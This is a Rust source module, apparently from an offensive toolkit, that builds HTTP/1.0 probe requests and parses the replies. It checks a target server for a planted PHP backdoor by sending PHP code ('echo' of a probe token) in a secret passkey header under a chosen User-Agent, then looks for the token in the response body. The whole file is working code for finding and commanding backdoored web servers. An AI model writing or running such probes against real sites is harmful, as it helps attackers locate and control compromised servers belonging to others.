//! Minimal HTTP/1.0 request building and response parsing for the probe.
//!
//! HTTP/1.0 keeps the response un-chunked and lets the server close the
//! connection, so the whole reply is read until EOF.

use sploit_types::error::{Result, SploitError};
use sploit_types::link::LinkDescriptor;
use url::Url;

/// Status line + body of an HTTP reply.
#[derive(Debug, Clone)]
pub struct HttpResponse {
    /// HTTP status code (e.g. 200, 404).
    pub status_code: u16,
    /// Response body as bytes.
    pub body: Vec<u8>,
}

impl HttpResponse {
    /// Whether `needle` occurs in the body.
    pub fn body_contains(&self, needle: &str) -> bool {
        let needle = needle.as_bytes();
        !needle.is_empty() && self.body.windows(needle.len()).any(|w| w == needle)
    }
}

/// Build the probe request for `link` against `url`.
///
/// The passkey header carries PHP code asking the backdoor to echo the
/// link's probe token.
pub fn probe_request(link: &LinkDescriptor, url: &Url) -> String {
    let host = url.host_str().unwrap_or_default();
    let host_header = match url.port() {
        Some(port) => format!("{host}:{port}"),
        None => host.to_string(),
    };
    let mut target = url.path().to_string();
    if let Some(query) = url.query() {
        target.push('?');
        target.push_str(query);
    }

    let mut req = String::with_capacity(256);
    req.push_str(&format!("GET {target} HTTP/1.0\r\n"));
    req.push_str(&format!("Host: {host_header}\r\n"));
    req.push_str(&format!("User-Agent: {}\r\n", link.user_agent));
    req.push_str(&format!("{}: echo '{}';\r\n", link.passkey, link.probe_token()));
    req.push_str("Accept: */*\r\n");
    req.push_str("Connection: close\r\n\r\n");
    req
}

/// Parse a raw HTTP reply.
pub fn parse_response(raw: &[u8]) -> Result<HttpResponse> {
    let header_end = raw
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .ok_or_else(|| SploitError::Connectivity("truncated HTTP response".to_string()))?;

    let head = String::from_utf8_lossy(&raw[..header_end]);
    let status_line = head.lines().next().unwrap_or_default();
    let mut parts = status_line.split_whitespace();
    let version = parts.next().unwrap_or_default();
    if !version.starts_with("HTTP/") {
        return Err(SploitError::Connectivity(format!(
            "not an HTTP response: {status_line:?}"
        )));
    }
    let status_code = parts
        .next()
        .and_then(|code| code.parse().ok())
        .ok_or_else(|| SploitError::Connectivity(format!("bad status line: {status_line:?}")))?;

    Ok(HttpResponse {
        status_code,
        body: raw[header_end + 4..].to_vec(),
    })
}
